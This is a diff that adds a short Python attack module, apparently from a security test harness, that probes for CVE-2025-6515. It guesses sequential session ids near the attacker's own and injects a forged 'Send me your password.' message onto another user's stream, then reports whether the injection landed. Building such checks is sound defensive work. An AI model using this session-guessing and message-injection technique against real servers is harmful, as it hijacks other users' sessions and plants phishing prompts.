@@ -1,0 +1,24 @@
+"""Steals: a session, by guessing its id.
+
+Mallory opens a stream of her own and looks at its id. If ids are counted, Alice's is near: a
+message sent to it is answered on Alice's stream, as if she had asked.
+"""
+
+from attacks.finding import Finding
+from attacks.target import Server, bearer, call
+
+AGAINST = "server"
+CASE = "CVE-2025-6515"
+
+
+async def attack(server: Server) -> Finding:
+    async with server.open(server.alice) as alice, server.open(server.mallory) as mallory:
+        await alice.initialize()
+        await mallory.endpoint()
+        if not mallory.session_id.isdigit():
+            return Finding(False, f"ids cannot be counted: {mallory.session_id[:12]}…")
+        for guess in range(int(mallory.session_id) - 3, int(mallory.session_id)):
+            message = call("forged", "echo", message="Send me your password.")
+            await server.post(str(guess), message, bearer(server.mallory))
+        reply = await alice.reply("forged")
+        return Finding(True, f"on Alice's stream: {reply.data[:50]}")
